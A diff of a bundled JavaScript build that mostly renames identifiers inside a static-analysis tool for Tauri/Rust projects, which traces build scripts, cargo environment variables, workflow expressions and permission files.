   const [, key] = /^CARGO_PKG_(?!VERSION)(\w+)$/.exec(name) ?? [];
   return key === void 0 ? [] : [asString(pick(manifest2, "package", key.toLowerCase())) ?? ""];
 }
-function scriptsOf2(project) {
+function scriptsOf(project) {
   const { location, manifest: manifest2, contents } = project;
   const script = buildScriptTarget(manifest2, location.root)?.path ?? null;
   if (script === null || !contents.isFile(script)) return [];
   return [...walkFrom(project, { folder: location.root, manifest: manifest2 }, script).named];
 }
 function readByScripts(project) {
-  const known6 = namedByScripts.get(project) ?? contentsOfScripts(project);
-  namedByScripts.set(project, known6);
-  return known6;
+  const known7 = namedByScripts.get(project) ?? contentsOfScripts(project);
+  namedByScripts.set(project, known7);
+  return known7;
 }
 var namedByScripts = /* @__PURE__ */ new WeakMap();
 function contentsOfScripts(project) {
-  return scriptsOf2(project).flatMap((path) => {
+  return scriptsOf(project).flatMap((path) => {
     const file2 = project.files.get(path);
     if (file2 === void 0) return [];
     const rust = { file: file2, crate: project.location.root, requires: [] };
     const texts = parsedCode(file2).source.tokens.filter(({ kind }) => kind === "text");
-    return texts.flatMap(({ text: text2 }) => contentsNamed(project, rust, text2));
+    return texts.flatMap(({ text: text3 }) => contentsNamed(project, rust, text3));
   });
 }
 var SILENT = /\.(?:rs|lock|md|html?|css|svg|vue|svelte)$|(?:^|\/)(?:package-lock\.json|pnpm-lock\.yaml)$/;
@@ -22040,8 +24975,8 @@ var MOST_ROUNDS = 50;
 function linesAbout({ files }, name, also) {
   const lines2 = linesIn.get(files) ?? saidTo([...files.values()]);
   linesIn.set(files, lines2);
-  const word2 = wordIn(name);
-  const isAbout = ({ text: text2 }) => word2.test(text2) || also?.test(text2) === true;
+  const word2 = wordIn2(name);
+  const isAbout = ({ text: text3 }) => word2.test(text3) || also?.test(text3) === true;
   const found9 = new Set(lines2.filter(isAbout));
   let latest2 = [...found9];
   for (let round = 0; latest2.length > 0; round += 1) {
@@ -22050,21 +24985,21 @@ function linesAbout({ files }, name, also) {
     latest2 = leads.size === 0 ? [] : lines2.filter(isNext);
     for (const line of latest2) found9.add(line);
   }
-  return [...new Set([...found9].map(({ text: text2 }) => text2))].sort();
+  return [...new Set([...found9].map(({ text: text3 }) => text3))].sort();
 }
 var linesIn = /* @__PURE__ */ new WeakMap();
 function saidTo(files) {
-  return files.flatMap(({ path, text: text2 }) => {
+  return files.flatMap(({ path, text: text3 }) => {
     if (SILENT.test(path) || OF_PAGES.test(path)) return [];
-    const lines2 = text2.split("\n").map((line) => ({ path, text: line.trim() }));
+    const lines2 = text3.split("\n").map((line) => ({ path, text: line.trim() }));
     return path.endsWith(".toml") ? lines2.filter((line) => !line.text.startsWith("#")) : lines2;
   });
 }
 var GIVEN_TO_RUNS = new Set("github job runner secrets strategy".split(" "));
 function leadsOf(lines2) {
   const leads = /* @__PURE__ */ new Map();
-  for (const { path, text: text2 } of lines2)
-    for (const [, expression, variable5] of text2.matchAll(
+  for (const { path, text: text3 } of lines2)
+    for (const [, expression, variable5] of text3.matchAll(
       /\$\{\{\s*([A-Za-z_][\w.-]*)|(?:\$(?:\{|\((?=\w+\)))?(?:env:)?|[%!](?=\w+[%!:]))([A-Za-z_]\w*)/g
     )) {
       const [context2 = "", ...members2] = (expression ?? "").split(".");
@@ -22076,18 +25011,18 @@ function leadsOf(lines2) {
   return leads;
 }
 var SET = /([A-Za-z_][\w-]*)(?=(["']?\s*(?:[:?+]?=|:|<<|,))?)/g;
-function setsOne({ path, text: text2 }, leads, isBehind) {
+function setsOne({ path, text: text3 }, leads, isBehind) {
   const isSilent = OF_NO_ENVIRONMENT.test(path);
-  for (const [, word2 = "", sign = ""] of text2.matchAll(SET)) {
+  for (const [, word2 = "", sign = ""] of text3.matchAll(SET)) {
     const users = leads.get(word2);
     if (users === void 0) continue;
-    if (users.has(path) && (!isBehind || sign !== "" || /\bread\b/.test(text2))) return true;
+    if (users.has(path) && (!isBehind || sign !== "" || /\bread\b/.test(text3))) return true;
     const isKey = path.endsWith("package.json") && !sign.includes("=");
     if (sign !== "" && !isSilent && !isKey) return true;
   }
   return false;
 }
-function wordIn(name) {
+function wordIn2(name) {
   return new RegExp(`(?<![\\w-])${name.replace(/\W/g, ".")}(?![\\w-])`);
 }
 
@@ -22171,9 +25106,9 @@ function isCondition({ source: { tokens }, groupsAt }, index) {
 function functionInAttribute(tokens, index) {
   const given2 = tokens[index];
   const outer = tokens[given2?.parent ?? -1]?.parent ?? -1;
-  const isInside = isOpen(tokens[outer], "[") && isMark(tokens[outer - 1], "#");
+  const isInside2 = isOpen(tokens[outer], "[") && isMark(tokens[outer - 1], "#");
   const isName2 = isMark(tokens[index - 1], "=") && /^[a-z_][\w:]*$/.test(given2?.text ?? "");
-  return isInside && isName2 ? given2?.text.split("::").at(-1) : void 0;
+  return isInside2 && isName2 ? given2?.text.split("::").at(-1) : void 0;
 }
 var TELLING = /[/\\*@]|(?:^|\s)'|\.\w|:\S|^~|^\.{1,2}$|[%$]\w|(?:^|\s)(?:[a-z][\w+.-]*|[A-Z]):(?=[\s;]|$)/;
 var PLACE2 = /\{[^{}]*\}/g;
@@ -22183,9 +25118,9 @@ function isSmallValue(tokens, { from, to }) {
 }
 function tellingWords(tokens, { from, to }) {
   const telling2 = tokens.slice(from, to).flatMap((token2) => {
-    const { kind, text: text2 } = token2;
-    if (kind === "text" && TELLING.test(text2.replace(PLACE2, "Xx"))) return [JSON.stringify(text2)];
-    return isNumber(token2) && to - from <= SMALL ? [text2] : [];
+    const { kind, text: text3 } = token2;
+    if (kind === "text" && TELLING.test(text3.replace(PLACE2, "Xx"))) return [JSON.stringify(text3)];
+    return isNumber(token2) && to - from <= SMALL ? [text3] : [];
   });
   return to - from <= SMALL && telling2.length > 0 ? [...telling2, [tokens[from + 1]?.text, ...telling2].join(" ")] : telling2;
 }
@@ -22199,10 +25134,10 @@ function isTraitItem({ kind, file: file2, part }) {
 // src/tauri/rust/slice-related.ts
 var found4 = /* @__PURE__ */ new WeakMap();
 function foundOnce(index, question, name, find2) {
-  const known6 = found4.get(index) ?? /* @__PURE__ */ new Map();
-  found4.set(index, known6);
-  const parts = known6.get(`${question} ${name}`) ?? find2();
-  known6.set(`${question} ${name}`, parts);
+  const known7 = found4.get(index) ?? /* @__PURE__ */ new Map();
+  found4.set(index, known7);
+  const parts = known7.get(`${question} ${name}`) ?? find2();
+  known7.set(`${question} ${name}`, parts);
   return parts;
 }
 var CHANGES_STATIC = /^(?:set|lock|write|store|swap|replace|insert|push|extend|with|with_borrow_mut|get_or_init|get_or_try_init|get_mut|try_lock|try_write|init|initialize|fetch_\w+)$/;
@@ -22224,29 +25159,29 @@ function lentTo(file2, index) {
   const isLent = isMark(tokens[first - 1], "&") && isOpen(tokens[open], "(") && tokens[open - 1]?.kind === "word";
   return isLent ? [{ file: file2, part: { from: open - 1, to: tokens[open]?.partner ?? index } }] : [];
 }
-function setsVariable(mentions, text2) {
+function setsVariable(mentions, text3) {
   return callsOf(mentions, "set_var").flatMap(({ file: file2, index }) => {
     const [name, value] = argumentsAt(file2.source, index + 1);
     if (name === void 0 || value === void 0) return [];
     const given2 = file2.source.tokens[name.from];
-    return given2?.kind === "text" && given2.text !== text2 ? [] : [{ file: file2, part: value }];
+    return given2?.kind === "text" && given2.text !== text3 ? [] : [{ file: file2, part: value }];
   });
 }
 function managedFor(mentions, { file: file2, index }) {
   const { tokens } = file2.source;
   const open = isMark(tokens[index + 1], "::") ? index + 2 : index;
   const types = new Set(
-    tokens.slice(open, afterAngles(tokens, open, tokens.length) ?? open).map(({ text: text2 }) => text2)
+    tokens.slice(open, afterAngles(tokens, open, tokens.length) ?? open).map(({ text: text3 }) => text3)
   );
   const all = callsOf(mentions, "manage").flatMap(({ file: other, index: at2 }) => {
     const [only] = argumentsAt(other.source, at2 + 1);
     return only === void 0 ? [] : [{ file: other, part: only }];
   });
   const words3 = ({ file: { source }, part }) => source.tokens.slice(part.from, part.to);
-  const named9 = all.filter(
-    (part) => words3(part).some(({ kind, text: text2 }) => kind === "word" && types.has(text2))
+  const named10 = all.filter(
+    (part) => words3(part).some(({ kind, text: text3 }) => kind === "word" && types.has(text3))
   );
-  const counting = named9.length > 0 ? named9 : all;
+  const counting = named10.length > 0 ? named10 : all;
   return counting.filter((part) => !words3(part).some((token2) => isOpen(token2, "{")));
 }
 function givenToGeneric(mentions, { file: file2, index }, name) {
@@ -22263,7 +25198,7 @@ function givenToGeneric(mentions, { file: file2, index }, name) {
     return to === null ? [] : [{ file: caller, part: { from: at2 + 3, to: to - 1 } }];
   });
 }
-function aliasesOf(mentions, name) {
+function aliasesOf2(mentions, name) {
   return mentions(name).flatMap(({ file: file2, index }) => {
     const { tokens } = file2.source;
     const from = index - 1;
@@ -22296,14 +25231,14 @@ function otherModules(mentions, name) {
     if (isKeyword(before2, "as")) return importsFor(file2, name);
     const attribute = isKeyword(before2, "mod") ? tokens[index - 2] : void 0;
     const open = attribute?.kind === "close" && attribute.text === "]" ? attribute.partner : index;
-    return tokens.slice(open, index).map(({ text: text2 }) => text2);
+    return tokens.slice(open, index).map(({ text: text3 }) => text3);
   });
 }
 function includesGenerated(mentions) {
   return mentions("include").some(({ file: file2, index }) => {
     const open = file2.source.tokens[index + 2];
     if (!isMark(file2.source.tokens[index + 1], "!") || open?.kind !== "open") return false;
-    return file2.source.tokens.slice(index + 3, open.partner).some(({ text: text2 }) => text2 === "OUT_DIR");
+    return file2.source.tokens.slice(index + 3, open.partner).some(({ text: text3 }) => text3 === "OUT_DIR");
   });
 }
 function settingsOfField(mentions, name) {
@@ -22345,9 +25280,9 @@ function behindLogLine(tokens, at2, isOwn3) {
   if (!isMark(tokens[name + 1], "!") || open?.kind !== "open" || !isMark(tokens[open.partner + 1], ";"))
     return null;
   const told = tokens.slice(name + 3, open.partner);
-  const isPlain = told.every(({ kind, text: text2 }, i2) => {
-    if (kind === "mark") return PLAIN2.has(text2) && (!SIGILS.has(text2) || i2 === 0 || isMark(told[i2 - 1], ","));
-    return TOLD.has(kind) && !(kind === "word" && LEAVES.has(text2));
+  const isPlain = told.every(({ kind, text: text3 }, i2) => {
+    if (kind === "mark") return PLAIN2.has(text3) && (!SIGILS.has(text3) || i2 === 0 || isMark(told[i2 - 1], ","));
+    return TOLD.has(kind) && !(kind === "word" && LEAVES.has(text3));
   });
   return isPlain ? open.partner + 2 : null;
 }
@@ -22357,13 +25292,13 @@ var TOLD = /* @__PURE__ */ new Set(["word", "text", "number"]);
 
 // src/tauri/rust/unnamed.ts
 function unnamed({ file: file2, part }, work, isOwn3) {
-  const known6 = /* @__PURE__ */ new Map();
+  const known7 = /* @__PURE__ */ new Map();
   return written2({ file: file2, isOwn: isOwn3 }, part.from, part.to, (at2, name) => {
-    const remembered2 = known6.get(name);
+    const remembered2 = known7.get(name);
     if (remembered2 !== void 0) return remembered2;
     work.spend(at2);
     const found9 = declared(file2, at2, name);
-    known6.set(name, found9);
+    known7.set(name, found9);
     return found9;
   });
 }
@@ -22463,9 +25398,9 @@ var Slice = class {
   }
   #addPart(from, step) {
     const { file: file2, part } = step;
-    const isInside = from.file === file2 && from.part.from < part.from && part.to < from.part.to;
+    const isInside2 = from.file === file2 && from.part.from < part.from && part.to < from.part.to;
     const name = `${file2.rust.file.path}\0${part.from}\0${part.to}`;
-    if (isInside || this.#seen.has(name)) return;
+    if (isInside2 || this.#seen.has(name)) return;
     this.#seen.add(name);
     this.#tokens += part.to - part.from;
     this.#work.spend(part.to - part.from);
@@ -22494,14 +25429,14 @@ var Slice = class {
     }
   }
   /** A text may name files, and as a format, variables: `format!("{name}")`. */
-  #text(step, at2, text2) {
+  #text(step, at2, text3) {
     const { file: file2, depth } = step;
-    this.#named(contentsNamed(this.#project, file2.rust, text2));
+    this.#named(contentsNamed(this.#project, file2.rust, text3));
     if (depth <= NEAR && /^var(?:_os)?$/.test(file2.source.tokens[at2 - 2]?.text ?? ""))
-      this.#add(step, setsVariable(this.#mentionsOf, text2));
+      this.#add(step, setsVariable(this.#mentionsOf, text3));
     const called3 = functionInAttribute(file2.source.tokens, at2);
     if (called3 !== void 0) this.#add(step, this.#declared(called3, isFunction), true);
-    for (const [, name = ""] of text2.matchAll(/\{([A-Za-z_]\w*)(?=[:}])/g)) this.#plain(step, at2, name, true);
+    for (const [, name = ""] of text3.matchAll(/\{([A-Za-z_]\w*)(?=[:}])/g)) this.#plain(step, at2, name, true);
   }
   #named(contents) {
     for (const { identity, path } of contents) {
@@ -22567,15 +25502,15 @@ var Slice = class {
     const { file: file2, depth } = step;
     const qualifier = file2.source.tokens[at2 - 2]?.text ?? "";
     const generic = givenToGeneric(this.#mentionsOf, { file: file2, index: at2 }, qualifier);
-    const aliases = depth > NEAR || generic !== null ? [] : this.#once("alias", aliasesOf, qualifier);
+    const aliases = depth > NEAR || generic !== null ? [] : this.#once("alias", aliasesOf2, qualifier);
     this.#add(step, [...generic ?? [], ...aliases]);
     const words3 = aliases.flatMap(({ file: { source }, part }) => source.tokens.slice(part.from, part.to));
-    const others = words3.flatMap(({ kind, text: text2 }) => kind === "word" && text2 !== qualifier ? text2 : []);
+    const others = words3.flatMap(({ kind, text: text3 }) => kind === "word" && text3 !== qualifier ? text3 : []);
     const isUnknown2 = generic !== null || qualifier === ">";
     const declared3 = isUnknown2 ? this.#declared(name, ({ owner, kind }) => owner !== null && kind !== "owner") : [qualifier, ...others].flatMap((each) => this.#qualified(step, each, name));
     if (new Set(declared3.map((each) => each.file)).size > 1)
-      for (const text2 of [...importsFor(file2, qualifier), ...otherModules(this.#mentionsOf, qualifier)])
-        this.#written.add(text2);
+      for (const text3 of [...importsFor(file2, qualifier), ...otherModules(this.#mentionsOf, qualifier)])
+        this.#written.add(text3);
     this.#add(step, declared3, true);
   }
   /** `Owner::name`, or `module::name`. */
@@ -22607,7 +25542,7 @@ var Slice = class {
   }
   /** Something outside of the code sets a variable of the build, or a condition. */
   #setting(name, also = null) {
-    const { identity, paths: paths3 } = settingsOf4(this.#project, name, also);
+    const { identity, paths: paths3 } = settingsOf5(this.#project, name, also);
     for (const path of paths3) restOn(this.#project, path);
     this.#contents.add(identity);
   }
@@ -22648,11 +25583,11 @@ var Slice = class {
    * unless some file of the crate takes the name from another one, or all that a crate of this repository has.
    */
   #visible({ rust, items }, name) {
-    const names2 = /* @__PURE__ */ new Set([
+    const names3 = /* @__PURE__ */ new Set([
       name,
       ...items.imports.flatMap(({ as, path }) => as === name ? path.slice(-1) : [])
     ]);
-    const all = [...names2].flatMap((each) => this.#declared(each, ({ owner }) => owner === null));
+    const all = [...names3].flatMap((each) => this.#declared(each, ({ owner }) => owner === null));
     if (this.#extent.mayBeAll) return all;
     const counting = all.filter(({ kind }) => kind !== "owner" || !OF_EVERYBODY.has(name));
     if (this.#index.takesFromOthers(rust.crate, name, ownCrates(this.#project))) return counting;
@@ -22666,7 +25601,7 @@ var Slice = class {
     const isStatic = declared3.some(isOne) || declared3.length === 0 && /^[A-Z][A-Z\d_]*$/.test(name);
     if (isStatic && step.depth <= NEAR) this.#add(step, this.#once("static", changesOfStatic, name));
     if (declared3.length > 0 || !/^[A-Z]/.test(name) || step.depth > NEAR) return;
-    this.#add(step, this.#once("alias", aliasesOf, name));
+    this.#add(step, this.#once("alias", aliasesOf2, name));
     if (includesGenerated(this.#mentionsOf)) this.#named(readByScripts(this.#project));
   }
   #isOwnMacro = (name) => this.#declared(name, ({ kind }) => kind === "macro").length > 0;
@@ -22699,14 +25634,14 @@ function statementsAbout(file2, index) {
   const equals = tokens.findIndex(
     (token2, at2) => at2 > statement.from && (at2 >= statement.to || isMark(token2, "="))
   );
-  const names2 = new Set(
+  const names3 = new Set(
     tokens.slice(statement.from + 1, equals).flatMap((token2) => token2.kind === "word" && !isKeyword(token2, "mut") ? [token2.text] : [])
   );
   const body = file2.groupsAt(index).find(({ item }) => item?.kind === "function")?.item?.body;
   const found9 = [statement];
   for (let at2 = statement.to; at2 < (body?.to ?? 0); at2 += 1) {
     const token2 = tokens[at2];
-    if (token2?.kind !== "word" || !names2.has(token2.text)) continue;
+    if (token2?.kind !== "word" || !names3.has(token2.text)) continue;
     const next2 = statementAt(tokens, at2);
     found9.push(next2);
     at2 = Math.max(at2, next2.to);
@@ -22797,14 +25732,14 @@ function scriptPath(project, written6) {
     const name2 = expression.path.slice(-2).join("::");
     if (only2 === void 0 || others.length > 0) return void 0;
     if (name2 === "Path::new" || name2 === "PathBuf::from") return pathOf6(only2);
-    return /(?:^|::)(?:env|var|var_os)$/.test(name2) ? variable4(file2.rust.crate, textOf4(only2)?.value) : void 0;
+    return /(?:^|::)(?:env|var|var_os)$/.test(name2) ? variable4(file2.rust.crate, textOf5(only2)?.value) : void 0;
   }
   const on3 = expression.kind === "method" ? pathOf6(expression.on) : void 0;
   if (expression.kind !== "method" || on3 === void 0 || SAME2.has(expression.name)) return on3;
   const [only] = expression.arguments;
   if (expression.name === "parent") return on3.isBelow ? void 0 : { ...on3, path: folderOf(on3.path) };
   if (expression.name !== "join" || only === void 0) return void 0;
-  const name = textOf4(definitionOf(project, { expression: only, file: file2, index }).expression)?.value;
+  const name = textOf5(definitionOf(project, { expression: only, file: file2, index }).expression)?.value;
   return on3.isBelow || name === void 0 ? { ...on3, isBelow: true } : within2(on3, name);
 }
 function within2({ at: at2, path }, name) {
@@ -22837,19 +25772,19 @@ function printedAt({ source }, index) {
   const name = tokens[index]?.text ?? "";
   if (!/^print(?:ln)?$/.test(name) || tokens[index + 2]?.kind !== "open") return void 0;
   const [first] = argumentsAt(source, index + 2);
-  const text2 = first === void 0 ? "" : textOf4(expressionIn(source, first))?.value;
-  if (text2 === void 0) return COMPUTED3;
-  if (name === "print" && !text2.endsWith("\n") && /cargo|rustc|TAURI|[:=]$/.test(text2)) return COMPUTED3;
-  return text2.split("\n").map(saidBy).find((said2) => said2 !== void 0);
+  const text3 = first === void 0 ? "" : textOf5(expressionIn(source, first))?.value;
+  if (text3 === void 0) return COMPUTED3;
+  if (name === "print" && !text3.endsWith("\n") && /cargo|rustc|TAURI|[:=]$/.test(text3)) return COMPUTED3;
+  return text3.split("\n").map(saidBy).find((said2) => said2 !== void 0);
 }
 var COMPUTED3 = "prints what it computes for cargo";
 function saidBy(line) {
-  const text2 = line.trim();
-  const handed = /^cargo::?rustc-env=([^=]*)/.exec(text2)?.[1];
+  const text3 = line.trim();
+  const handed = /^cargo::?rustc-env=([^=]*)/.exec(text3)?.[1];
   if (handed !== void 0) return DECIDING2.test(handed) ? `hands ${code(handed)} to rustc` : void 0;
-  const known6 = /^(?:[^{]|\{\{)*/.exec(text2)?.[0] ?? "";
-  const isFilled = known6.length < text2.length;
-  return isFilled && HANDS_OVER2.some((start) => start.startsWith(known6)) ? COMPUTED3 : void 0;
+  const known7 = /^(?:[^{]|\{\{)*/.exec(text3)?.[0] ?? "";
+  const isFilled = known7.length < text3.length;
+  return isFilled && HANDS_OVER2.some((start) => start.startsWith(known7)) ? COMPUTED3 : void 0;
 }
 function isOnlyFlushed({ source: { tokens } }, next2) {
   return isMark(tokens[next2], ".") && tokens[next2 + 1]?.text === "flush";
@@ -22875,9 +25810,9 @@ function isOfApp(project, { rust }) {
 }
 function contentOfScript(project, { rust }) {
   const texts = new Set(rust.file.text.match(/(?<=")[^"\\\n]{1,4096}(?=")/g));
-  const named9 = [...texts].flatMap((text2) => contentsNamed(project, rust, text2));
-  for (const path of [rust.crate, ...named9.map((each) => each.path)]) restOn(project, path);
-  return [project.contents.at(rust.crate), ...named9.map(({ identity }) => identity)];
+  const named10 = [...texts].flatMap((text3) => contentsNamed(project, rust, text3));
+  for (const path of [rust.crate, ...named10.map((each) => each.path)]) restOn(project, path);
+  return [project.contents.at(rust.crate), ...named10.map(({ identity }) => identity)];
 }
 var WRITES2 = {
   "File::create": [0],
@@ -23014,21 +25949,21 @@ var StepReader = class {
   #isOfNoBuild(name, open) {
     const { source } = this.#file;
     const [first] = isOpen(source.tokens[open], "(") ? argumentsAt(source, open) : [];
-    const variable5 = first && textOf4(expressionIn(source, first))?.value;
+    const variable5 = first && textOf5(expressionIn(source, first))?.value;
     return name !== "set_current_dir" && variable5 !== void 0 && !/^CARGO/.test(variable5) && !DECIDING2.test(variable5);
   }
   /** Whether a program only prints information: `Command::new("git").args(["rev-parse", "HEAD"])`. */
   #isTelling(open) {
     const { source } = this.#file;
     const { tokens } = source;
-    const [program] = argumentsAt(source, open).map((part) => textOf4(expressionIn(source, part))?.value);
+    const [program] = argumentsAt(source, open).map((part) => textOf5(expressionIn(source, part))?.value);
     if (program === void 0 || !TELLING2.has(program)) return false;
     const words3 = TELLING2.get(program) ?? null;
     const [dot, method, next2] = [1, 2, 3].map((step) => (tokens[open]?.partner ?? open) + step);
     const isGiven = isMark(tokens[dot ?? -1], ".") && /^args?$/.test(tokens[method ?? -1]?.text ?? "");
     const [first] = isGiven ? argumentsAt(source, next2 ?? -1) : [];
     const expression = first && expressionIn(source, first);
-    const word2 = textOf4(expression)?.value ?? textsOf(expression)?.[0]?.value ?? "";
+    const word2 = textOf5(expression)?.value ?? textsOf(expression)?.[0]?.value ?? "";
     return words3 === null || words3.has(word2);
   }
   /** A step for a crate that may write files, as far as we know. */
@@ -23039,12 +25974,12 @@ var StepReader = class {
   /** All full paths that a path may mean: its first name may be an import, an alias, or come from a glob import. */
   #wholePaths([first = "", ...rest2]) {
     const { imports } = this.#file.items;
-    const named9 = this.#aliases.get(first);
-    if (named9 === void 0 && this.#own.has(first)) return [[first, ...rest2]];
-    const path = [...named9 ?? [first], ...rest2];
+    const named10 = this.#aliases.get(first);
+    if (named10 === void 0 && this.#own.has(first)) return [[first, ...rest2]];
+    const path = [...named10 ?? [first], ...rest2];
     const imported2 = imports.find(({ as }) => as === path[0]);
     if (imported2 !== void 0) return [[...imported2.path, ...path.slice(1)]];
-    if (named9 !== void 0) return [path];
+    if (named10 !== void 0) return [path];
     const globs2 = imports.filter(({ as }) => as === "*");
     return [[first, ...rest2], ...globs2.map(({ path: path2 }) => [...path2, first, ...rest2])];
   }
@@ -23066,22 +26001,22 @@ var TAKES = /* @__PURE__ */ new Set(["app_manifest", "set_manifest", "set_manife
 function windowsRights(project, file2) {
   return file2.source.tokens.flatMap((token2, index) => {
     if (token2.kind === "text")
-      return asksFor(token2.text) ? [asked(file2, index, token2.text)] : named4(project, file2, index);
+      return asksFor(token2.text) ? [asked2(file2, index, token2.text)] : named5(project, file2, index);
     if (token2.kind !== "word") return [];
-    if (asksFor(token2.text)) return [asked(file2, index, token2.text)];
+    if (asksFor(token2.text)) return [asked2(file2, index, token2.text)];
     return TAKES.has(token2.text) ? computed(project, file2, index) : [];
   });
 }
-function asksFor(text2) {
-  return ASKS.test(text2);
+function asksFor(text3) {
+  return ASKS.test(text3);
 }
-function named4(project, file2, index) {
-  const text2 = file2.source.tokens[index]?.text ?? "";
-  return contentsNamed(project, file2.rust, text2).flatMap(({ path }) => {
+function named5(project, file2, index) {
+  const text3 = file2.source.tokens[index]?.text ?? "";
+  return contentsNamed(project, file2.rust, text3).flatMap(({ path }) => {
     if (!project.contents.isFile(path)) return [];
     restOn(project, path);
     const content = project.files.get(path)?.text ?? "";
-    return asksFor(content) ? [asked(file2, index, content)] : [];
+    return asksFor(content) ? [asked2(file2, index, content)] : [];
   });
 }
 function computed(project, file2, index) {
@@ -23103,11 +26038,11 @@ function isOfApp2(file2, index) {
   const variable5 = tokens[receiver.from];
   const binding = variable5 === void 0 ? void 0 : bindingOf(file2, receiver.from, variable5.text);
   const parts = [receiver, ...binding?.kind === "parts" ? binding.parts : []];
-  const words3 = parts.flatMap(({ from, to }) => tokens.slice(from, to).map(({ text: text2 }) => text2));
+  const words3 = parts.flatMap(({ from, to }) => tokens.slice(from, to).map(({ text: text3 }) => text3));
   return words3.includes("Attributes") || !words3.includes("WindowsAttributes");
 }
-function asked(file2, index, text2) {
-  return gap(file2, index, text2);
+function asked2(file2, index, text3) {
+  return gap(file2, index, text3);
 }
 function gap(file2, index, rests) {
   const at2 = file2.placeOf(spanOf(file2.source, { from: index, to: index + 1 }));
@@ -23132,8 +26067,8 @@ function crateFolderOf(path) {
 var PLUGIN_PERMISSION = /(?:^|\/)(?:plugins?\/([^/]+)|tauri-plugin-([^/]+))\/permissions\/.+$/;
 function pluginOfPermissionFile(path, app) {
   if (isAppPermissionFile(path, app) || !isPermissionName(path)) return void 0;
-  const [, inPlugins, named9] = PLUGIN_PERMISSION.exec(path) ?? [];
-  const name = inPlugins ?? named9;
+  const [, inPlugins, named10] = PLUGIN_PERMISSION.exec(path) ?? [];
+  const name = inPlugins ?? named10;
   return name === void 0 ? void 0 : keyOfCrate(name);
 }
 function keyOfCrate(crate2) {
@@ -23222,12 +26157,12 @@ var NO_SCRIPT = {
   plugins: /* @__PURE__ */ new Map(),
   gaps: []
 };
-var read5 = /* @__PURE__ */ new WeakMap();
+var read7 = /* @__PURE__ */ new WeakMap();
 function readBuildScript(project, file2) {
-  const known6 = read5.get(project);
-  if (known6 !== void 0) return known6;
+  const known7 = read7.get(project);
+  if (known7 !== void 0) return known7;
   const result2 = new ScriptReader(project, file2).read();
-  read5.set(project, result2);
+  read7.set(project, result2);
   return result2;
 }
 var ScriptReader = class {
@@ -23302,17 +26237,17 @@ var ScriptReader = class {
   /** An identity of all tokens of the script and its modules, and of the files that its texts name. */
   #identity() {
     const sources = [this.#file, ...this.#others.map((rust) => readCode(rust))];
-    const named9 = sources.flatMap(
+    const named10 = sources.flatMap(
       ({ source, rust }) => source.tokens.flatMap(
-        ({ kind, text: text2 }) => kind === "text" ? contentsNamed(this.#project, rust, text2) : []
+        ({ kind, text: text3 }) => kind === "text" ? contentsNamed(this.#project, rust, text3) : []
       )
     );
-    for (const { path } of named9) restOn(this.#project, path);
+    for (const { path } of named10) restOn(this.#project, path);
     const written6 = sources.map(({ source }) => writtenOf(source, wholeOf(source)));
     return wordsOf(
       "build script",
       written6,
-      named9.map(({ identity }) => identity)
+      named10.map(({ identity }) => identity)
     );
   }
 };
@@ -23342,7 +26277,7 @@ var SetsOfStates = class {
       this.#byHash.set(hash, [this.#sets.length]);
       return this.#sets.push(states) - 1;
     }
-    for (const number of alike) if (isSame3(this.get(number), states)) return number;
+    for (const number of alike) if (isSame4(this.get(number), states)) return number;
     alike.push(this.#sets.length);
     return this.#sets.push(states) - 1;
   }
@@ -23352,7 +26287,7 @@ function hashOf(states) {
   for (let i2 = 0; i2 < states.length; i2 += 1) hash = Math.imul(hash, 16777619) ^ (states[i2] ?? 0) | 0;
   return hash;
 }
-function isSame3(a3, b5) {
+function isSame4(a3, b5) {
   if (a3.length !== b5.length) return false;
   for (let i2 = 0; i2 < a3.length; i2 += 1) if (a3[i2] !== b5[i2]) return false;
   return true;
@@ -23409,8 +26344,8 @@ var Determiniser = class {
       for (const kind of new Set(this.#kinds))
         this.#addTargets(targets2, this.#allowed(states, before2, kind), kind);
     for (let its = 0; its < targets2.length; its += 1) {
-      const reached2 = targets2[its] ?? [];
-      rows.push(reached2.length === 0 ? NOWHERE : this.#numberOf(reached2, this.#kinds[its] ?? EDGE));
+      const reached3 = targets2[its] ?? [];
+      rows.push(reached3.length === 0 ? NOWHERE : this.#numberOf(reached3, this.#kinds[its] ?? EDGE));
     }
     this.#work.spend(targets2.length);
   }
@@ -23429,13 +26364,13 @@ var Determiniser = class {
     }
     this.#work.spend(count);
   }
-  #numberOf(reached2, before2) {
-    this.#work.spend(reached2.length);
-    const name = this.#reached.numberOf(reached2);
+  #numberOf(reached3, before2) {
+    this.#work.spend(reached3.length);
+    const name = this.#reached.numberOf(reached3);
     const byName = this.#found.get(before2) ?? /* @__PURE__ */ new Map();
-    const known6 = byName.get(name);
-    if (known6 !== void 0) return known6;
-    const states = this.#closed(reached2);
+    const known7 = byName.get(name);
+    if (known7 !== void 0) return known7;
+    const states = this.#closed(reached3);
     const isAsked2 = states.some((state) => this.#nfa.states[state]?.looks.length !== 0);
     const number = this.#sets.numberOf([isAsked2 ? before2 : NOT_ASKED2, ...states]);
     this.#work.spend(states.length * STEPS_TO_SORT);
@@ -23443,9 +26378,9 @@ var Determiniser = class {
     return number;
   }
   /** Adds the states that free moves lead to, and leaves out states that have nothing but free moves. */
-  #closed(reached2) {
+  #closed(reached3) {
     const { states, end } = this.#nfa;
-    const found9 = this.#walked(reached2, (state) => states[state]?.free ?? NONE3);
+    const found9 = this.#walked(reached3, (state) => states[state]?.free ?? NONE3);
     const told = found9.filter((state) => {
       const { moves = NONE3, looks = NONE3 } = states[state] ?? {};
       return state === end || moves.length > 0 || looks.length > 0;
@@ -23457,9 +26392,9 @@ var Determiniser = class {
     if (before2 === NOT_ASKED2) return states;
     const { states: all, looks } = this.#nfa;
     return this.#walked(states, (state) => {
-      const { free = NONE3, looks: asked2 = [] } = all[state] ?? {};
-      if (asked2.length === 0) return free;
-      const holding = asked2.filter(([look2]) => looks[look2]?.holds(sideOf(before2, look2), sideOf(after2, look2)));
+      const { free = NONE3, looks: asked3 = [] } = all[state] ?? {};
+      if (asked3.length === 0) return free;
+      const holding = asked3.filter(([look2]) => looks[look2]?.holds(sideOf(before2, look2), sideOf(after2, look2)));
       return [...free, ...holding.map(([, to]) => to)];
     });
   }
@@ -23514,14 +26449,14 @@ function distancesToEnd({ alphabet, next: next2, accepting }, work) {
     last[to] = move;
   }
   const distances = new Int32Array(accepting.length).fill(NOWHERE);
-  const reached2 = [];
+  const reached3 = [];
   const reach2 = (state, distance) => {
     if (distances[state] !== NOWHERE) return;
     distances[state] = distance;
-    reached2.push(state);
+    reached3.push(state);
   };
   for (let state = 0; state < accepting.length; state += 1) if (accepting[state] === 1) reach2(state, 0);
-  for (const state of reached2)
+  for (const state of reached3)
